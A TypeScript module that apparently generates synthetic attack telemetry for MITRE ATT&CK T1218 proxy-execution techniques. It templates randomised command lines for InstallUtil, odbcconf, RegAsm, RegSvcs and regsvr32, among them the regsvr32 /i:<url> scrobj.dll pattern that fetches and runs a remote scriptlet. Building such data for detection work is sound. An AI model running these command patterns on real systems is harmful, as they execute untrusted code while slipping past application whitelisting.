import { fileName, word } from "../../world/names.ts";
import { plainFile } from "../../world/programs.ts";
import { type Chain, chain } from "../chain.ts";
import { option, perform, written } from "./act.ts";
import { dropPath, sharePath, webFile } from "./delivery.ts";

const ASSEMBLY = ["dll", "exe", "dat", "txt"];

/** T1218.004 InstallUtil, T1218.008 Odbcconf, T1218.009 Regsvcs/Regasm, T1218.010 Regsvr32: programs that register what they are given. */
export const registering: readonly Chain[] = [
  chain("T1218.004/uninstall", (s) => {
    const file = dropPath(s, ASSEMBLY);
    const quiet = s.random.pick([
      `/logfile= /LogToConsole=false ${option(s, "U")}`,
      `/logfile= /LogToConsole=false /U`,
      `/U`,
      `/LogToConsole=false`,
    ]);
    perform(s, "InstallUtil.exe", {
      args: `${quiet} ${written(s, file)}`,
      payload: file,
      kind: file.endsWith("exe") ? "exe" : "dll",
      technique: "T1218.004",
      note: "an assembly run through its installer class",
      drops: [file],
      loads: ["mscoree.dll", plainFile(file)],
      writes: s.random.chance(0.3) ? [`${file.replace(/\.\w+$/, "")}.InstallLog`] : [],
    });
  }),
  chain("T1218.004/share", (s) => {
    const file = sharePath(s, ["dll", "exe"]);
    perform(s, "InstallUtil.exe", {
      args: `/logfile= /U ${written(s, file)}`,
      payload: file,
      kind: file.endsWith("exe") ? "exe" : "dll",
      technique: "T1218.004",
      note: "an assembly on somebody else's share",
      loads: ["mscoree.dll"],
    });
  }),
  chain("T1218.008/regsvr", (s) => {
    const dll = dropPath(s, ["dll", "txt", "dat"]);
    perform(s, "odbcconf.exe", {
      args: `${s.random.pick(["/a", "-a", "/S /A", "/A"])} {REGSVR ${written(s, dll)}}`,
      payload: dll,
      kind: "dll",
      technique: "T1218.008",
      note: "a library registered by odbcconf",
      drops: [dll],
      loads: [plainFile(dll)],
    });
  }),
  chain("T1218.008/response", (s) => {
    const rsp = dropPath(s, ["rsp", "txt"]);
    const dll = dropPath(s, ["dll"]);
    perform(s, "odbcconf.exe", {
      args: `${option(s, "f")} ${written(s, rsp)}`,
      payload: rsp,
      kind: "script",
      technique: "T1218.008",
      note: "a response file tells odbcconf what to register",
      drops: [dll, rsp],
      loads: [plainFile(dll)],
    });
  }),
  chain("T1218.009/regasm", (s) => {
    const dll = dropPath(s, ["dll", "dll", "exe", "log"]);
    perform(s, "RegAsm.exe", {
      args: `${s.random.pick(["/U ", "/u ", "", "/codebase "])}${written(s, dll)}`,
      payload: dll,
      kind: "dll",
      technique: "T1218.009",
      note: "an assembly run through its registration class",
      drops: [dll],
      loads: ["mscoree.dll", plainFile(dll)],
    });
  }),
  chain("T1218.009/regsvcs", (s) => {
    const dll = dropPath(s, ["dll"]);
    perform(s, "RegSvcs.exe", {
      args: `${s.random.pick(["/U ", "", "/quiet "])}${written(s, dll)}`,
      payload: dll,
      kind: "dll",
      technique: "T1218.009",
      note: "an assembly run through its registration class",
      drops: [dll],
      loads: ["mscoree.dll", plainFile(dll)],
    });
  }),
  chain("T1218.010/scriptlet-remote", (s) => {
    const url = webFile(s, ["sct", "txt", "xml", "png"]);
    const flags = s.random.pick(["/s /n /u", "/u /n /s", "-s -n -u", "/s /u", "-u /s"]);
    perform(s, "regsvr32.exe", {
      args: `${flags} ${option(s, "i")}:${url} scrobj.dll`,
      payload: url,
      kind: "script",
      technique: "T1218.010",
      note: "a scriptlet from the web",
      loads: ["scrobj.dll", "jscript.dll"],
      fetches: [url],
    });
  }),
  chain("T1218.010/scriptlet-local", (s) => {
    const sct = dropPath(s, ["sct", "txt", "log"]);
    perform(s, "regsvr32.exe", {
      args: `/s /u /i:${written(s, sct)} ${s.random.pick(["scrobj.dll", "C:\\Windows\\System32\\scrobj.dll", "scrobj"])}`,
      payload: sct,
      kind: "script",
      technique: "T1218.010",
      note: "a scriptlet that was just written",
      drops: [sct],
      loads: ["scrobj.dll"],
    });
  }),
  chain("T1218.010/library", (s) => {
    const dll = dropPath(s, ["dll", "dll", "ocx", "dat", "tmp", "jpg"]);
    perform(s, "regsvr32.exe", {
      args: `${s.random.pick(["/s ", "-s ", "", "/s /i ", "-e "])}${written(s, dll)}`,
      payload: dll,
      kind: "dll",
      technique: "T1218.010",
      note: "a library that was just written",
      drops: [dll],
      loads: [plainFile(dll)],
    });
  }),
  chain("T1218.010/share", (s) => {
    const dll = sharePath(s, ["dll", "ocx"]);
    perform(s, "regsvr32.exe", {
      args: `/s ${written(s, dll)}`,
      payload: dll,
      kind: "dll",
      technique: "T1218.010",
      note: "a library on somebody else's share",
      loads: [dll],
    });
  }),
  chain("T1218.010/argument", (s) => {
    const dll = dropPath(s, ["dll"]);
    perform(s, "regsvr32.exe", {
      args: `/s /n /i:${word(s.random)}-${fileName(s.random)} ${dll}`,
      payload: dll,
      kind: "dll",
      technique: "T1218.010",
      note: "DllInstall with a word of its own",
      drops: [dll],
      loads: [plainFile(dll)],
    });
  }),
];
